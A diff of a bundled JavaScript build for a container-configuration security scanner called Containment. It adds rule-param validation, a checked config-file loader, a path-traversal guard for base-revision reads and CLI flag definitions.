+  return Array.isArray(value) ? [...value.entries()] : [];
+}
+function entries(value) {
+  return value !== null && typeof value === "object" && !Array.isArray(value) ? Object.entries(value) : [];
+}
+function resolveLocal(root, ref) {
+  let node = root;
+  for (const part of ref.slice(2).split("/")) {
+    const key = decodeURIComponent(part).replace(/~1/g, "/").replace(/~0/g, "~");
+    node = node !== null && typeof node === "object" ? node[key] : void 0;
+  }
+  return node;
+}
+
 // src/policy/load-packs.ts
 function loadPacks(files, origin = "policies") {
   const errors = [];
@@ -72079,7 +73174,7 @@ function loadPacks(files, origin = "policies") {
     }
     const meta = readValidated(files[packFile], where2(packFile), PACK_META_SCHEMA, errors);
     if (!meta) continue;
-    const pack = {
+    const pack2 = {
       id: String(meta["id"]),
       title: String(meta["title"]),
       description: String(meta["description"]),
@@ -72089,15 +73184,15 @@ function loadPacks(files, origin = "policies") {
     };
     for (const name of names) {
       if (name === packFile) continue;
-      const rule = loadRule(files[name], where2(name), pack.id, errors);
-      if (rule) pack.rules.push(rule);
+      const rule = loadRule(files[name], where2(name), pack2.id, errors);
+      if (rule) pack2.rules.push(rule);
     }
-    packs2.push(pack);
+    packs2.push(pack2);
   }
   reportDuplicateIds(packs2, errors);
   return { packs: packs2, errors };
 }
-function loadRule(text2, file, pack, errors) {
+function loadRule(text2, file, pack2, errors) {
   const raw = readValidated(text2, file, RULE_META_SCHEMA, errors);
   if (!raw) return void 0;
   const at = readYaml(text2);
@@ -72109,25 +73204,31 @@ function loadRule(text2, file, pack, errors) {
   const id = String(raw["id"]);
   const base = file.slice(file.lastIndexOf("/") + 1).replace(/\.ya?ml$/, "");
   if (base !== id) return fail("/id", `The rule id "${id}" must equal the file name "${base}", so that a rule is found where its id says.`);
-  const params = raw["params"] ?? {};
+  const declarations = raw["params"] ?? {};
+  const params = Object.fromEntries(Object.entries(declarations).map(([name, declared]) => [name, declared.default]));
+  const paramSchemas = Object.fromEntries(Object.entries(declarations).map(([name, { schema, description }]) => [name, { schema, description }]));
+  for (const [name, declared] of Object.entries(declarations)) {
+    const problem2 = declarationProblem(declared);
+    if (problem2) return fail(`/params/${name}/${problem2.field}`, `Param "${name}": ${problem2.message}`);
+  }
+  const subjectSchema = SUBJECT_SCHEMAS[raw["subject"]];
+  let unknownPaths = 0;
   for (const field2 of ["schema", "when"]) {
     if (raw[field2] === void 0) continue;
     const missing = /* @__PURE__ */ new Set();
     const schema = substituteParams(raw[field2], params, missing);
-    if (missing.size) return fail(`/${field2}`, `"${field2}" uses $param ${[...missing].map((m) => `"${m}"`).join(", ")}, which "params" does not define.`);
-    try {
-      compileOnce(schema);
-    } catch (error2) {
-      return fail(`/${field2}`, `"${field2}" is not a valid JSON Schema: ${error2.message}`);
-    }
-    for (const { pattern, pointer } of schemaPatterns(schema, `/${field2}`)) {
-      const reason = unsafePatternReason(pattern);
-      if (reason) return fail(pointer, `The pattern ${JSON.stringify(pattern)} can take exponential time on a crafted value (${reason}). Rewrite it without a repetition inside a repeated group, e.g. "(a+)+" as "a+".`);
+    if (missing.size) return fail(`/${field2}`, `"${field2}" uses $param ${[...missing].map((m) => `"${m}"`).join(", ")}, which "params" does not declare.`);
+    const problem2 = ruleSchemaProblem(schema, field2);
+    if (problem2) return fail(problem2.pointer, problem2.message);
+    for (const path6 of unknownSubjectPaths(raw[field2], subjectSchema, field2, String(raw["subject"]))) {
+      fail(path6.pointer, path6.message);
+      unknownPaths++;
     }
   }
+  if (unknownPaths) return void 0;
   return {
     id,
-    pack,
+    pack: pack2,
     title: String(raw["title"]),
     severity: raw["severity"],
     subject: raw["subject"],
@@ -72138,6 +73239,7 @@ function loadRule(text2, file, pack, errors) {
     remediation: String(raw["remediation"]).trim(),
     references: raw["references"].map(toReference),
     params,
+    paramSchemas,
     tests: raw["tests"],
     source: file
   };
@@ -72160,8 +73262,8 @@ function readValidated(text2, file, schema, errors) {
   }
   return void 0;
 }
-function relevantErrors2(list2) {
-  return list2.filter((error2) => error2.keyword !== "if");
+function relevantErrors2(list3) {
+  return list3.filter((error2) => error2.keyword !== "if");
 }
 function describeMetaError(error2) {
   const field2 = error2.instancePath ? `"${error2.instancePath.slice(1).replace(/\//g, ".")}"` : "The file";
@@ -72178,8 +73280,8 @@ function describeMetaError(error2) {
 }
 function reportDuplicateIds(packs2, errors) {
   const seen = /* @__PURE__ */ new Map();
-  for (const pack of packs2) {
-    pack.rules = pack.rules.filter((rule) => {
+  for (const pack2 of packs2) {
+    pack2.rules = pack2.rules.filter((rule) => {
       const first = seen.get(rule.id);
       if (first) {
         errors.push({ file: rule.source, line: 1, column: 1, message: `Rule id "${rule.id}" is already used by ${first}; rule ids are unique across packs.` });
@@ -72189,6 +73291,16 @@ function reportDuplicateIds(packs2, errors) {
       return true;
     });
   }
+}
+function declarationProblem(declared) {
+  let validate;
+  try {
+    validate = compileOnce(declared.schema);
+  } catch (error2) {
+    return { field: "schema", message: `"schema" is not a valid JSON Schema: ${error2.message}` };
+  }
+  if (validate(declared.default)) return void 0;
+  return { field: "default", message: `the default does not satisfy the param's own schema: ${ajv().errorsText(validate.errors, { dataVar: "default" })}.` };
 }
 
 // src/policy/builtin-packs.ts
@@ -72247,22 +73359,22 @@ function withCustomPacks(builtin, dirs, shown = (d) => d) {
   if (dirs.length === 0) return builtin;
   const messages = [];
   const packs2 = [...builtin];
-  const owner = new Map(builtin.flatMap((pack) => pack.rules.map((rule) => [rule.id, rule.source])));
+  const owner = new Map(builtin.flatMap((pack2) => pack2.rules.map((rule) => [rule.id, rule.source])));
   for (const dir of dirs) {
     const { packs: loaded, errors } = loadPackDir(dir, shown(dir));
     messages.push(...errors.map(formatLoadError));
-    for (const pack of loaded) {
-      if (packs2.some((p) => p.id === pack.id)) {
-        messages.push(`${pack.source}: pack id "${pack.id}" is already taken; choose another id in its pack.yaml.`);
+    for (const pack2 of loaded) {
+      if (packs2.some((p) => p.id === pack2.id)) {
+        messages.push(`${pack2.source}: pack id "${pack2.id}" is already taken; choose another id in its pack.yaml.`);
         continue;
       }
-      pack.rules = pack.rules.filter((rule) => {
+      pack2.rules = pack2.rules.filter((rule) => {
         const first = owner.get(rule.id);
         if (first) messages.push(`${rule.source}: rule id "${rule.id}" is already used by ${first}; rule ids are unique across packs.`);
         else owner.set(rule.id, rule.source);
         return !first;
       });
-      packs2.push(pack);
+      packs2.push(pack2);
     }
   }
   if (messages.length) throw new ConfigError(`Custom packs have errors:
@@ -72297,7 +73409,6 @@ function applyBaseline(findings, baseline) {
 }
 
 // src/select/config.ts
-import { existsSync as existsSync3, readFileSync as readFileSync3 } from "node:fs";
 import { join as join7, relative as relative5 } from "node:path";
 
 // src/select/suppression-policy.ts
@@ -72363,15 +73474,23 @@ var CONFIG_SCHEMA = {
 var DEFAULT_CONFIG_PATHS = [".github/containment.yml", ".github/containment.yaml"];
 function loadConfig(root, explicit) {
   if (typeof explicit === "object") return parseConfig(explicit.text, explicit.shown);
-  const file = explicit ? explicit.startsWith("/") ? explicit : join7(root, explicit) : DEFAULT_CONFIG_PATHS.map((p) => join7(root, p)).find((p) => existsSync3(p));
-  if (!file) return { packs: {}, rules: {}, exclude: [] };
-  const shown = relative5(root, file).startsWith("..") ? file : relative5(root, file);
-  let text2;
-  try {
-    text2 = readFileSync3(file, "utf8");
-  } catch (error2) {
-    throw new ConfigError(`Cannot read the config file ${shown}: ${error2.code ?? error2.message}. Check the path given to --config or the config input.`);
+  const candidates = explicit ? [explicit.startsWith("/") ? explicit : join7(root, explicit)] : DEFAULT_CONFIG_PATHS.map((p) => join7(root, p));
+  let file;
+  let text2 = "";
+  for (const candidate of candidates) {
+    const shownCandidate = relative5(root, candidate).startsWith("..") || relative5(root, candidate) === "" ? candidate : relative5(root, candidate);
+    const read = readCheckedSync(root, candidate);
+    if ("missing" in read) {
+      if (explicit) throw new ConfigError(`Cannot read the config file ${shownCandidate}: ENOENT. Check the path given to --config or the config input.`);
+      continue;
+    }
+    if ("refused" in read) throw new ConfigError(`Cannot read the config file: ${read.refused.replace(candidate, shownCandidate)}. Check the path given to --config or the config input.`);
+    file = candidate;
+    text2 = read.text;
+    break;
   }
+  if (!file) return { packs: {}, rules: {}, exclude: [] };
+  const shown = relative5(root, file).startsWith("..") || relative5(root, file) === "" ? file : relative5(root, file);
   return parseConfig(text2, shown);
 }
 function parseConfig(text2, shown) {
@@ -72384,7 +73503,7 @@ function parseConfig(text2, shown) {
     const error2 = [...validate.errors ?? []].sort((a, b) => b.instancePath.length - a.instancePath.length)[0];
     const { start } = yaml.locate(error2.instancePath);
     const key = error2.instancePath.slice(1).replace(/\//g, ".") || "(top level)";
-    const detail = suppressionsKeyError(error2.instancePath, error2.keyword, error2.params) ?? (error2.keyword === "additionalProperties" ? `unknown key "${error2.params.additionalProperty}" (allowed: fail-on, exclude, packs, rules, suppressions; a rule takes enabled, severity, params, exclude)` : error2.instancePath.startsWith("/rules/") ? 'must be "off", a severity (critical, high, medium, low, info) or a map with enabled, severity, params and exclude' : error2.message ?? "is not valid");
+    const detail = suppressionsKeyError(error2.instancePath, error2.keyword, error2.params) ?? (error2.keyword === "additionalProperties" ? `unknown key "${error2.params.additionalProperty}" (allowed: fail-on, exclude, packs, rules, suppressions; a rule takes enabled, severity, params, exclude)` : /^\/rules\/[^/]+\/params$/.test(error2.instancePath) ? "must be a map of param names to values ('containment explain RULE-ID' lists a rule's params)" : error2.instancePath.startsWith("/rules/") ? 'must be "off", a severity (critical, high, medium, low, info) or a map with enabled, severity, params and exclude' : error2.message ?? "is not valid");
     throw new ConfigError(`${shown}:${start.line}:${start.column}: ${key}: ${detail}.`);
   }
   const raw = value;
@@ -72412,6 +73531,21 @@ function parseConfig(text2, shown) {
     locate: (pointer) => yaml.locate(pointer).start
   };
 }
+function checkConfigParams(config2, packs2) {
+  const rules = new Map(packs2.flatMap((pack2) => pack2.rules.map((rule) => [rule.id, rule])));
+  const messages = [];
+  for (const [id, setting] of Object.entries(config2.rules)) {
+    const rule = rules.get(id);
+    if (!rule || !setting.params) continue;
+    for (const problem2 of paramProblems(rule, setting.params)) {
+      const pointer = `/rules/${id}/params${problem2.pointer}`;
+      const place = config2.locate?.(pointer);
+      const where2 = place ? `${config2.source}:${place.line}:${place.column}` : config2.source ?? "config";
+      messages.push(`${where2}: rules.${id}.params${problem2.pointer.replace(/\//g, ".")}: ${problem2.message}`);
+    }
+  }
+  if (messages.length) throw new ConfigError(messages.join("\n"));
+}
 
 // src/report/counts.ts
 function describeCounts(counts, threshold = "info") {
@@ -72429,21 +73563,21 @@ var MAX_FINDINGS_PER_FILE = 200;
 function capFindingsPerFile(findings, notices2, max = MAX_FINDINGS_PER_FILE) {
   const byPath = /* @__PURE__ */ new Map();
   for (const finding of findings) {
-    const list2 = byPath.get(finding.path);
-    if (list2) list2.push(finding);
+    const list3 = byPath.get(finding.path);
+    if (list3) list3.push(finding);
     else byPath.set(finding.path, [finding]);
   }
   const dropped = /* @__PURE__ */ new Set();
-  for (const [path6, list2] of byPath) {
-    if (list2.length <= max) continue;
-    const left = [...list2].sort((a, b) => severityRank(a.severity) - severityRank(b.severity)).slice(max);
+  for (const [path6, list3] of byPath) {
+    if (list3.length <= max) continue;
+    const left = [...list3].sort((a, b) => severityRank(a.severity) - severityRank(b.severity)).slice(max);
     for (const finding of left) dropped.add(finding);
     const counts = Object.fromEntries(SEVERITIES.map((severity) => [severity, 0]));
     for (const finding of left) counts[finding.severity]++;
     notices2.push({
       level: "warning",
       path: path6,
-      message: `${path6} has ${list2.length} findings; Containment reports at most ${max} per file, the most severe first, so ${plural(left.length, "more finding")} (${describeCounts(counts)}) ${left.length === 1 ? "is" : "are"} not listed. Fix the listed ones and scan again to see the rest.`
+      message: `${path6} has ${list3.length} findings; Containment reports at most ${max} per file, the most severe first, so ${plural(left.length, "more finding")} (${describeCounts(counts)}) ${left.length === 1 ? "is" : "are"} not listed. Fix the listed ones and scan again to see the rest.`
     });
   }
   return dropped.size === 0 ? findings : findings.filter((finding) => !dropped.has(finding));
@@ -72469,31 +73603,31 @@ function pathFilter(patterns) {
 }
 
 // src/select/select.ts
-function activeRules(packs2, config) {
-  return packs2.filter((pack) => config.packs[pack.id] !== false).flatMap((pack) => pack.rules).filter((rule) => config.rules[rule.id]?.enabled !== false);
+function activeRules(packs2, config2) {
+  return packs2.filter((pack2) => config2.packs[pack2.id] !== false).flatMap((pack2) => pack2.rules).filter((rule) => config2.rules[rule.id]?.enabled !== false);
 }
-function reportedRules(rules, config) {
-  const all = [...PROBLEM_RULES.filter((rule) => config.rules[rule.id]?.enabled !== false), ...rules];
+function reportedRules(rules, config2) {
+  const all = [...PROBLEM_RULES.filter((rule) => config2.rules[rule.id]?.enabled !== false), ...rules];
   return all.map((rule) => ({
     id: rule.id,
     pack: rule.pack,
     title: rule.title,
-    severity: config.rules[rule.id]?.severity ?? rule.severity,
+    severity: config2.rules[rule.id]?.severity ?? rule.severity,
     rationale: rule.rationale,
     remediation: rule.remediation,
     references: rule.references,
     ...rule.subject ? { subject: rule.subject } : {}
   }));
 }
-function excludedPaths(config) {
-  return pathFilter(config.exclude);
+function excludedPaths(config2) {
+  return pathFilter(config2.exclude);
 }
-function selectFindings(findings, config) {
-  const excluded = excludedPaths(config);
-  const ruleExcludes = new Map(Object.entries(config.rules).flatMap(([id, c]) => c.exclude ? [[id, pathFilter(c.exclude)]] : []));
+function selectFindings(findings, config2) {
+  const excluded = excludedPaths(config2);
+  const ruleExcludes = new Map(Object.entries(config2.rules).flatMap(([id, c]) => c.exclude ? [[id, pathFilter(c.exclude)]] : []));
   const skipped = (ruleId, path6) => excluded(path6) || ruleExcludes.get(ruleId)?.(path6) === true;
   return findings.flatMap((finding) => {
-    const setting = config.rules[finding.ruleId];
+    const setting = config2.rules[finding.ruleId];
     if (setting?.enabled === false) return [];
     let kept2 = finding;
     if (skipped(finding.ruleId, finding.path)) {
@@ -72510,17 +73644,17 @@ function selectFindings(findings, config) {
     return [setting?.severity ? { ...kept2, severity: setting.severity } : kept2];
   });
 }
-function checkConfigNames(config, packs2) {
+function checkConfigNames(config2, packs2) {
   const rules = /* @__PURE__ */ new Set([...PROBLEM_RULES.map((r) => r.id), ...packs2.flatMap((p) => p.rules.map((r) => r.id))]);
   const packIds = new Set(packs2.map((p) => p.id));
   const at = (pointer) => {
-    const place = config.locate?.(pointer);
-    return place ? `${config.source}:${place.line}:${place.column}` : config.source ?? "config";
+    const place = config2.locate?.(pointer);
+    return place ? `${config2.source}:${place.line}:${place.column}` : config2.source ?? "config";
   };
-  for (const id of Object.keys(config.rules)) {
+  for (const id of Object.keys(config2.rules)) {
     if (!rules.has(id)) throw new ConfigError(`${at(`/rules/${id}`)}: rules.${id}: there is no rule with this id; 'containment rules' lists them.`);
   }
-  for (const id of Object.keys(config.packs)) {
+  for (const id of Object.keys(config2.packs)) {
     if (!packIds.has(id)) throw new ConfigError(`${at(`/packs/${id}`)}: packs.${id}: there is no pack with this id (packs: ${[...packIds].join(", ")}).`);
   }
 }
@@ -72594,12 +73728,12 @@ function applySuppressions(findings, texts, knownRules, context3) {
         problems.push(problem("suppression-invalid", path6, comment2, `This suppression ${what}. It suppresses nothing until fixed.`));
         continue;
       }
-      const list2 = valid.get(path6);
-      if (list2) list2.push(comment2);
+      const list3 = valid.get(path6);
+      if (list3) list3.push(comment2);
       else valid.set(path6, [comment2]);
     }
   }
-  const describe3 = (finding, comment2) => {
+  const describe4 = (finding, comment2) => {
     const addedByChange = context3.addedLine?.(finding.path, comment2.line);
     const coversAddedLine = addedByChange === false && (context3.addedLine?.(finding.path, finding.range.start.line) === true || context3.isNew?.(finding) === true);
     return {
@@ -72613,7 +73747,7 @@ function applySuppressions(findings, texts, knownRules, context3) {
   };
   const statusOf = (finding, comment2) => {
     if (comment2.until !== void 0 && comment2.until < context3.today) return "expired";
-    if (madeByChange(describe3(finding, comment2)) && !allowsInPullRequest(policy.inPullRequest, finding.severity)) return "beyond-limit";
+    if (madeByChange(describe4(finding, comment2)) && !allowsInPullRequest(policy.inPullRequest, finding.severity)) return "beyond-limit";
     return "applies";
   };
   const used = /* @__PURE__ */ new Set();
@@ -72629,13 +73763,13 @@ function applySuppressions(findings, texts, knownRules, context3) {
     const comment2 = candidates.find((c) => statusOf(finding, c) === "applies");
     if (comment2) {
       used.add(comment2);
-      suppressed.push({ ...finding, suppression: describe3(finding, comment2) });
+      suppressed.push({ ...finding, suppression: describe4(finding, comment2) });
       continue;
     }
     kept2.push(finding);
     const first = candidates[0];
     if (first) {
-      const entry = { ...finding, suppression: describe3(finding, first), refused: statusOf(finding, first) };
+      const entry = { ...finding, suppression: describe4(finding, first), refused: statusOf(finding, first) };
       refused.push(entry);
       refusedBy.set(first, [...refusedBy.get(first) ?? [], entry]);
     }
@@ -72684,8 +73818,8 @@ function indexComments(comments) {
     order.set(comment2, position2);
     if (comment2.fileLevel) fileLevel.push(comment2);
     else {
-      const list2 = byLine.get(comment2.line);
-      if (list2) list2.push(comment2);
+      const list3 = byLine.get(comment2.line);
+      if (list3) list3.push(comment2);
       else byLine.set(comment2.line, [comment2]);
     }
   });
@@ -72710,31 +73844,32 @@ function problem(ruleId, path6, comment2, message) {
 var DEFAULT_FAIL_ON = "high";
 async function scan(options) {
   const root = resolve5(options.root);
-  const config = stage("config", () => loadConfig(root, options.config));
+  const config2 = stage("config", () => loadConfig(options.configRoot ?? root, options.config));
   const packs2 = stage("packs", () => withCustomPacks(loadBuiltinPacks(), options.packs ?? []));
-  checkConfigNames(config, packs2);
-  const rules = activeRules(packs2, config);
+  checkConfigNames(config2, packs2);
+  checkConfigParams(config2, packs2);
+  const rules = activeRules(packs2, config2);
   const baseline = options.baseline === void 0 ? void 0 : readBaseline(options.baseline, root);
-  const params = Object.fromEntries(Object.entries(config.rules).flatMap(([id, c]) => c.params ? [[id, c.params]] : []));
+  const params = Object.fromEntries(Object.entries(config2.rules).flatMap(([id, c]) => c.params ? [[id, c.params]] : []));
   const compiled2 = stage("compile", () => compileRules(rules, params));
   const tree = options.tree ?? workingTree(root);
   const notices2 = [];
   const documents = await stage("read+parse", () => readProject(tree, notices2));
   const linked = stage("link", () => link(documents));
-  const selected = stage("evaluate+select", () => selectFindings(evaluateTimed(linked, compiled2), config));
+  const selected = stage("evaluate+select", () => selectFindings(evaluateTimed(linked, compiled2), config2));
   const known = /* @__PURE__ */ new Set([...PROBLEM_RULES.map((r) => r.id), ...packs2.flatMap((p) => p.rules.map((r) => r.id))]);
-  const excluded = excludedPaths(config);
+  const excluded = excludedPaths(config2);
   const texts = new Map(documents.filter((d) => !excluded(d.path)).map((d) => [d.path, d.text]));
   const today = (/* @__PURE__ */ new Date()).toISOString().slice(0, 10);
-  const inline = applySuppressions(selected, texts, known, { today, policy: config.suppressions, addedLine: options.addedLine, isNew: options.isNew });
+  const inline = applySuppressions(selected, texts, known, { today, policy: config2.suppressions, addedLine: options.addedLine, isNew: options.isNew });
   const base = baseline ? applyBaseline(inline.kept, baseline) : { kept: inline.kept, suppressed: [], fixed: [] };
   const findings = capFindingsPerFile(base.kept, notices2);
-  const failOn = options.failOn ?? config.failOn ?? DEFAULT_FAIL_ON;
+  const failOn = options.failOn ?? config2.failOn ?? DEFAULT_FAIL_ON;
   return {
     root,
     files: documents.map(({ path: path6, kind }) => ({ path: path6, kind })),
     findings,
-    rules: reportedRules(rules, config),
+    rules: reportedRules(rules, config2),
     notices: notices2,
     counts: countBySeverity(findings),
     failOn,
@@ -72757,8 +73892,11 @@ function releaseDocuments() {
   return new Promise((resolve8) => setImmediate(resolve8));
 }
 
+// src/pr/api-source.ts
+import { posix as posix4 } from "node:path";
+
 // node_modules/@actions/github/lib/context.js
-import { readFileSync as readFileSync4, existsSync as existsSync4 } from "fs";
+import { readFileSync as readFileSync3, existsSync as existsSync3 } from "fs";
 import { EOL as EOL7 } from "os";
 var Context = class {
   /**
@@ -72768,8 +73906,8 @@ var Context = class {
     var _a, _b, _c;
     this.payload = {};
     if (process.env.GITHUB_EVENT_PATH) {
-      if (existsSync4(process.env.GITHUB_EVENT_PATH)) {
-        this.payload = JSON.parse(readFileSync4(process.env.GITHUB_EVENT_PATH, { encoding: "utf8" }));
+      if (existsSync3(process.env.GITHUB_EVENT_PATH)) {
+        this.payload = JSON.parse(readFileSync3(process.env.GITHUB_EVENT_PATH, { encoding: "utf8" }));
       } else {
         const path6 = process.env.GITHUB_EVENT_PATH;
         process.stdout.write(`GITHUB_EVENT_PATH ${path6} does not exist${EOL7}`);
@@ -77484,8 +78622,10 @@ function apiSource(options) {
       return changes;
     },
     async fileAt(path6) {
+      const full = posix4.normalize(prefix + path6);
+      if (full.startsWith("../") || full === ".." || posix4.isAbsolute(full)) return null;
       try {
-        const { data } = await client.rest.repos.getContent({ owner, repo, path: prefix + path6, ref: options.baseSha, mediaType: { format: "raw" } });
+        const { data } = await client.rest.repos.getContent({ owner, repo, path: full, ref: options.baseSha, mediaType: { format: "raw" } });
         return typeof data === "string" ? data : null;
       } catch (error2) {
         if (httpStatus(error2) === 404) return null;
@@ -77715,7 +78855,7 @@ async function scanPullRequest(options) {
     };
   } catch (error2) {
     if (error2 instanceof Error && error2.name === "ConfigError") throw error2;
-    throw new BaseUnreadable(`the base revision could not be read through ${options.source.describe} (${describe2(error2)})`, trusted, { cause: error2 });
+    throw new BaseUnreadable(`the base revision could not be read through ${options.source.describe} (${describe3(error2)})`, trusted, { cause: error2 });
   } finally {
     await rm2(temp, { recursive: true, force: true });
   }
@@ -77724,12 +78864,12 @@ function isTouched(changes, path6) {
   return changes.lines.has(path6) || changes.renamed.has(path6);
 }
 async function fromBase(options, temp) {
-  const configPaths = typeof options.config === "string" ? [repoPath(options.root, options.config)] : DEFAULT_CONFIG_PATHS;
-  let config = { text: "{}", shown: "defaults (no config file at the base revision)" };
+  const configPaths = configPathsOf(options);
+  let config2 = { text: "{}", shown: "defaults (no config file at the base revision)" };
   for (const path6 of configPaths) {
     const text2 = await options.source.fileAt(path6);
     if (text2 !== null) {
-      config = { text: text2, shown: `${path6} (base revision)` };
+      config2 = { text: text2, shown: `${path6} (base revision)` };
       break;
     }
   }
@@ -77749,7 +78889,7 @@ async function fromBase(options, temp) {
     }
     packs2.push(target);
   }
-  const trusted = { config, packs: packs2 };
+  const trusted = { config: config2, packs: packs2 };
   if (typeof options.baseline === "string") {
     const path6 = repoPath(options.root, options.baseline);
     const text2 = await options.source.fileAt(path6);
@@ -77759,17 +78899,21 @@ async function fromBase(options, temp) {
 }
 function decidingPathsChanged(options, changes) {
   const watched = [
-    ...typeof options.config === "string" ? [repoPath(options.root, options.config)] : DEFAULT_CONFIG_PATHS,
+    ...configPathsOf(options),
     ...(options.packs ?? []).map((dir) => `${repoPath(options.root, dir)}/`),
     ...typeof options.baseline === "string" ? [repoPath(options.root, options.baseline)] : []
   ];
   const touched = [...changes.lines.keys(), ...changes.deleted, ...changes.renamed.values()];
   return [...new Set(touched.filter((path6) => watched.some((w) => w.endsWith("/") ? path6.startsWith(w) : path6 === w)))];
 }
+function configPathsOf(options) {
+  if (typeof options.config === "string") return [repoPath(options.root, options.config)];
+  return DEFAULT_CONFIG_PATHS.map((path6) => repoPath(options.root, join9(options.configRoot ?? options.root, path6)));
+}
 function repoPath(root, path6) {
   return relative6(root, path6).split(sep7).join("/");
 }
-function describe2(error2) {
+function describe3(error2) {
   const status = error2.status;
   const message = error2 instanceof Error ? error2.message : String(error2);
   return typeof status === "number" ? `HTTP ${status}: ${message}` : message;
@@ -77969,6 +79113,7 @@ var package_default = {
   scripts: {
     build: "node scripts/build.mjs",
     test: "vitest run",
+    "test:slow": "vitest run --mode slow",
     typecheck: "tsc --noEmit",
     lint: "biome check src test scripts",
     bench: "node bench/run.mjs",
@@ -78080,8 +79225,8 @@ function severityPhrase(findings) {
   const counts = Object.fromEntries(SEVERITIES.map((severity) => [severity, 0]));
   for (const finding of findings) counts[finding.severity]++;
   const parts = describeCounts(counts).split(", ");
-  const list2 = parts.length > 1 ? `${parts.slice(0, -1).join(", ")} and ${parts.at(-1)}` : parts[0];
-  return `${list2} finding${findings.length === 1 ? "" : "s"}`;
+  const list3 = parts.length > 1 ? `${parts.slice(0, -1).join(", ")} and ${parts.at(-1)}` : parts[0];
+  return `${list3} finding${findings.length === 1 ? "" : "s"}`;
 }
 function fileSection(path6, findings, failOn, row2) {
   const open4 = findings.some((finding) => failOn !== "none" && SEVERITIES.indexOf(finding.severity) <= SEVERITIES.indexOf(failOn));
@@ -78168,7 +79313,7 @@ function suppressedSection(result, links, size, budget) {
   const suppressed = result.suppressed ?? [];
   const refused = result.refusedSuppressions ?? [];
   if (suppressed.length === 0 && refused.length === 0) return "";
-  const ranked = (list2) => [...list2].sort((a, b) => severityRank(a.severity) - severityRank(b.severity));
+  const ranked = (list3) => [...list3].sort((a, b) => severityRank(a.severity) - severityRank(b.severity));
   const added = ranked(suppressed.filter((finding) => madeByChange(finding.suppression)));
   const older = ranked(suppressed.filter((finding) => !madeByChange(finding.suppression)));
   let used = 0;
@@ -78882,6 +80027,72 @@ import { dirname as dirname5, isAbsolute as isAbsolute2, join as join11, relativ
 // src/settings.ts
 import { lstatSync as lstatSync2, readlinkSync, realpathSync as realpathSync2 } from "node:fs";
 import { basename as basename5, dirname as dirname4, isAbsolute, join as join10, relative as relative7, resolve as resolve6, sep as sep8 } from "node:path";
+
+// src/docs/framework-view.ts
+var FRAMEWORKS2 = { "cis-docker": "CIS Docker Benchmark v1.6.0", "owasp-docker": "OWASP Docker Security Cheat Sheet" };
+
+// src/cli-flags.ts
+var pack = { type: "string", multiple: true, placeholder: "DIR", help: "also use the custom pack in DIR (repeatable)" };
+var config = { short: "c", type: "string", placeholder: "FILE", help: "config file (default: .github/containment.yml under path, if present)" };
+var COMMANDS = {
+  scan: {
+    args: "[path]",
+    summary: "scan a folder (default: the current one) and judge what it finds",
+    flags: {
+      format: { short: "f", type: "string", values: ["text", "json", "sarif"], help: "output format (default: text)" },
+      config,
+      "fail-on": {
+        type: "string",
+        values: [...SEVERITIES, "none"],
+        help: "exit 1 when a finding is at least this severe (default: the config file's fail-on, else high)"
+      },
+      output: { short: "o", type: "string", placeholder: "FILE", help: "write the report to FILE (its folder is created) instead of stdout" },
+      baseline: { type: "string", placeholder: "FILE", help: "report the findings FILE records as suppressed (see 'baseline')" },
+      changed: { type: "boolean", help: "judge only what the working tree changed since --base: findings are new or existing, and only new ones fail" },
+      base: { type: "string", placeholder: "REV", help: "with --changed: compare with REV (default: the merge base with origin/HEAD, else HEAD)" },
+      "fail-on-scope": { type: "string", values: ["new", "all"], help: "with --changed: fail on new findings only (default) or on all" },
+      pack
+    }
+  },
+  baseline: {
+    args: "[path]",
+    summary: "record today's findings, so that later scans report only new ones",
+    flags: {
+      config,
+      output: { short: "o", type: "string", placeholder: "FILE", help: "write the baseline to FILE (its folder is created) instead of stdout" },
+      pack
+    }
+  },
+  inventory: {
+    args: "[path]",
+    summary: "list every image (registry, tag, digest, trusted or not) and container (user, privileged, Docker socket, host namespaces)",
+    flags: { format: { short: "f", type: "string", values: ["text", "json", "markdown"], help: "output format (default: text)" }, config, pack }
+  },
+  rules: {
+    args: "",
+    summary: "list the rules, or the framework controls they check",
+    flags: {
+      format: { short: "f", type: "string", values: ["text", "markdown"], help: "a padded table, or the markdown table the README holds (default: text)" },
+      framework: { type: "string", values: Object.keys(FRAMEWORKS2), help: "list the controls of this framework and the rules that check each" },
+      pack
+    }
+  },
+  explain: { args: "RULE-ID", summary: "a rule's documentation: why, examples, how to fix", flags: { pack } },
+  docs: {
+    args: "",
+    summary: "write every rule's documentation page into a folder",
+    flags: { out: { type: "string", placeholder: "DIR", help: "the folder to write (default: docs/rules)" }, pack }
+  },
+  "test-pack": { args: "DIR", summary: "run a custom pack's embedded examples; every rule needs a failing and a passing one", flags: {} },
+  subjects: {
+    args: "",
+    summary: "what rules judge: every subject type's value shape",
+    flags: { format: { short: "f", type: "string", values: ["markdown", "json"], help: "docs/subjects.md, or the JSON Schemas (default: markdown)" } }
+  },
+  help: { args: "[command]", summary: "this help, or the flags of one command", flags: {} }
+};
+
+// src/settings.ts
 var FAIL_ON_VALUES = [...SEVERITIES, "none"];
 var UsageError = class extends Error {
   name = "UsageError";
@@ -78896,7 +80107,7 @@ function actionSettings(getInput2, env = process.env) {
   if (failOn !== "" && !isFailOn(failOn)) {
     throw new UsageError(`Input 'fail-on' must be one of ${FAIL_ON_VALUES.join(", ")}; got '${failOn}'.`);
   }
-  const config = input("config");
+  const config2 = input("config");
   const sarifFile = input("sarif-file");
   const jsonFile = input("json-file");
   const commentKey = commentKeyFrom(input("comment-key"), env, input("path") || ".");
@@ -78908,7 +80119,7 @@ function actionSettings(getInput2, env = process.env) {
     token: input("token"),
     workspace,
     root,
-    ...config === "" ? {} : { config: insideWorkspace(workspace, config, "config", "be a file") },
+    ...config2 === "" ? {} : { config: insideWorkspace(workspace, config2, "config", "be a file") },
     ...failOn === "" ? {} : { failOn },
     comment: booleanInput("comment", input("comment"), true),
     commentKey,
@@ -79118,6 +80329,7 @@ async function run3() {
     if (await notTheirCode(settings, target, client)) return;
     const scanned = await scanForEvent({
       root: settings.root,
+      configRoot: settings.workspace,
       config: settings.config,
       failOn: settings.failOn,
       packs: settings.packs,
